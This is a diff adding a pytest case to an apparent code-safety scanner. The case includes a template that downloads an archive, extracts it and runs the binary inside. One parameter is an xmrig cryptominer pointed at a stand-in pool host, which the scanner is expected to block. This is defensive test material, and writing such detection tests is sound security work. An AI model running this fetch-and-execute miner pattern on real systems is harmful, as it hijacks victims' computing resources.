@@ -1671,6 +1671,29 @@ def test_a_comprehension_of_getattr_is_a_table_of_the_modules_functions(engine, 
     assert (verdict.action in ("warn", "block") and verdict.category == "proxy_tunnel") == flagged, verdict.to_dict()
 
 
+# a helper that downloads and unpacks before it returns the program's path, run in an executor and awaited
+FETCHED_IN_EXECUTOR = ("import asyncio, tarfile, urllib.request\n"
+                       "def fetch():\n    urllib.request.urlretrieve(URL, '/tmp/t.tgz')\n"
+                       "    with tarfile.open('/tmp/t.tgz') as t:\n        t.extractall('/tmp/t')\n"
+                       "    return '/tmp/t/' + '{tool}'\n"
+                       "async def main():\n    loop = asyncio.get_running_loop()\n"
+                       "    exe = await loop.run_in_executor(None, fetch)\n"
+                       "    proc = await asyncio.create_subprocess_exec(exe, {args})\n    await proc.wait()\n"
+                       "await main()\n")
+
+
+@pytest.mark.parametrize("tool, args, category", [
+    ("xmrig", "'-o', 'pool.example.net:3333', '-u', 'W'", "crypto_mining"),
+    ("ffmpeg", "'-i', 'in.mp4', 'out.webm'", None),
+])
+def test_a_helpers_return_after_calls_made_for_their_effect_is_read(engine, tool, args, category):
+    verdict = engine.check_code(FETCHED_IN_EXECUTOR.replace("{tool}", tool).replace("{args}", args))
+    if category:
+        assert verdict.action == "block" and verdict.category == category, verdict.to_dict()
+    else:
+        assert verdict.action == "allow", verdict.to_dict()
+
+
 def alphabet_shifted(text: str) -> str:
     plain = "abcdefghijklmnopqrstuvwxyz0123456789-.:/ "
     return text.translate(str.maketrans(plain, plain[7:] + plain[:7]))
